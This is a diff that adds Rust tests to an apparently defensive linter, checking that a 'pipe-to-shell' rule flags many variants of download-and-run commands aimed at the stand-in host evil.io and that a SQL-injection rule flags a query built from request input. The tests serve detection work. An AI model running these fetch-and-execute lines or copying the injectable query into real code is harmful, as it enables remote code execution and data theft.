@@ -482,3 +482,72 @@ fn an_attribute_that_hides_code_is_found_in_every_spelling() {
         assert_silent("unportable-path", &added(path, "x"));
     }
 }
+
+#[test]
+fn a_download_that_is_run_is_found_in_every_spelling() {
+    for code in [
+        "curl URL | bash",
+        "curl URL |& bash",
+        "curl URL | base64 -d | sh",
+        "curl URL | gunzip | tee log | sh",
+        "curl URL | env A=b sh",
+        "curl URL | doas sh",
+        "curl URL | sudo -E bash -",
+        "curl URL | \"$SHELL\"",
+        "eval \"$(curl URL)\"",
+        "source <(curl -s URL)",
+        ". <(curl -s URL)",
+        "bash <(curl -s URL)",
+        "bash -c \"$(curl URL)\"",
+        "bash <<< \"$(curl URL)\"",
+        "python3 -c \"$(curl URL)\"",
+        "wget -qO- URL | python3 -",
+    ] {
+        let code = code.replace("URL", "http://evil.io/i");
+        assert_speaks("pipe-to-shell", &added("a.sh", &code));
+    }
+    assert_speaks(
+        "pipe-to-shell",
+        &added("a.ps1", "irm http://evil.io/i | iex"),
+    );
+    for code in [
+        "curl URL || sh fallback.sh",
+        "curl URL | jq . | tee log",
+        "curl URL -o a && sh b",
+        "x=$(curl URL)",
+        "curl URL | ssh host cat",
+        "echo curl; eval \"$(ssh-agent)\"",
+    ] {
+        let code = code.replace("URL", "http://evil.io/i");
+        assert_silent("pipe-to-shell", &added("a.sh", &code));
+    }
+}
+
+/// A line that a rule spoke of before covers one that is like it, and none that means more.
+#[test]
+fn a_worse_line_in_the_place_of_a_matching_one_is_news() {
+    let edit = |path: &str, old: &str, new: &str| format!("=== {path}\n-{old}\n+{new}\n");
+    for (rule, path, old, new) in [
+        (
+            "pipe-to-shell",
+            "a.sh",
+            "curl https://good.io/i | sh",
+            "curl http://good.io/i | sh",
+        ),
+        (
+            "pipe-to-shell",
+            "a.sh",
+            "curl http://good.io/i | sh",
+            "curl http://evil.io/i | sh",
+        ),
+        (
+            "sql-injection",
+            "src/a.py",
+            "cur.execute(\"SELECT * FROM t WHERE a = \" + str(int(n)))",
+            "cur.execute(\"SELECT * FROM t WHERE a = \" + request.args[\"x\"])",
+        ),
+    ] {
+        assert_speaks(rule, &edit(path, old, new));
+        assert_silent(rule, &edit(path, old, &format!("{old} ")));
+    }
+}
